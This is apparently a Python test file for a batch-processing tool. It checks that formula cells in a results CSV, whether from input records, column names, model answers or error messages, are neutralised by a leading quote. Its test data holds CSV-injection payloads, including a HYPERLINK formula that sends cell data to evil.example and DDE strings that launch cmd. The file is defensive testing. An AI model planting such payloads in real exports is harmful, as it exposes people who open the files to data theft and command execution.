"""Text from records, prompts and model output is data, never instructions (issue 9, item 11).

In the results CSV a cell a spreadsheet would run as a formula is made inert (the JSONL table keeps the
raw text).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from batch_mcp.sandbox import SandboxServer
from batch_mcp.services.results import ResultIndex, build_results_table

from conftest import mcp_session, settings_for
from test_file_safety import call

#: Cells as a hostile record, prompt or answer may hold them: each starts with one of OWASP's characters.
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click for details")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\tcmd", "\r=1+1"]
#: Plain numbers are read as numbers, not formulas: they stay as they are.
NUMBERS = ["-3.5", "+42", "-1e3"]


def read_csv(path: str | Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# --- the results CSV (item 11) --------------------------------------------------------------------

async def test_results_csv_makes_formulas_inert(sandbox: SandboxServer, workdir: Path) -> None:
    """Records with formulas in their values and in a column name, through prepare, submit and download."""
    source = workdir / "data" / "reviews.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        rows = csv.writer(handle)
        rows.writerow(["id", "review", "=cmd|' /C calc'!A0"])
        rows.writerows([f"-r{n}", value, NUMBERS[n % len(NUMBERS)]] for n, value in enumerate(FORMULAS))
    async with mcp_session(settings_for(sandbox, workdir)) as (client, _):
        prepared = await call(client, "prepare_batch_file", source="data/reviews.csv", model="gpt-4o-mini",
                              prompt="{review}", id_column="id")
        batch_id = (await call(client, "submit_batch", path=prepared["path"]))["batch"]["batch_id"]
        await call(client, "wait_for_batch", batch_id=batch_id, timeout_s=60, poll_interval_s=0.05)
        summary = await call(client, "download_batch_results", batch_id=batch_id)
    header, *cells = read_csv(summary["table_csv_path"])
    column = {name: number for number, name in enumerate(header)}
    assert "'=cmd|' /C calc'!A0" in header and "=cmd|' /C calc'!A0" not in header
    for n, (row, value) in enumerate(zip(cells, FORMULAS, strict=True)):
        assert row[column["custom_id"]] == f"'-r{n}" and row[column["review"]] == "'" + value
        assert row[column["'=cmd|' /C calc'!A0"]] == NUMBERS[n % len(NUMBERS)]
    raw = [json.loads(line) for line in Path(summary["table_jsonl_path"]).read_text().splitlines()]
    assert [(r["custom_id"], r["review"]) for r in raw] == [(f"-r{n}", v) for n, v in enumerate(FORMULAS)]
    assert raw[0]["=cmd|' /C calc'!A0"] == NUMBERS[0]


def test_model_output_and_errors_are_inert_in_the_csv(tmp_path: Path) -> None:
    """What a model answers, or an error says, is no more trusted than the input."""
    answer, error = FORMULAS[0], "@SUM(A1:A9) exceeded"
    results = tmp_path / "results.jsonl"
    results.write_text(json.dumps({"custom_id": "ok", "response": {"status_code": 200, "body": {
        "model": "m", "choices": [{"message": {"role": "assistant", "content": answer}}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1}}}}) + "\n"
        + json.dumps({"custom_id": "ko", "error": {"code": "=code", "message": error}}) + "\n")
    table = build_results_table(ResultIndex([results]), None, tmp_path / "t.csv", tmp_path / "t.jsonl")
    assert (table.succeeded, table.failed) == (1, 1)
    header, ok, ko = read_csv(tmp_path / "t.csv")
    assert ok[header.index("output_text")] == "'" + answer and ok[header.index("input_tokens")] == "1"
    assert ko[header.index("error_message")] == "'" + error and ko[header.index("error_code")] == "'=code"
    raw = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text().splitlines()]
    assert raw[0]["output_text"] == answer and raw[1]["error_message"] == error
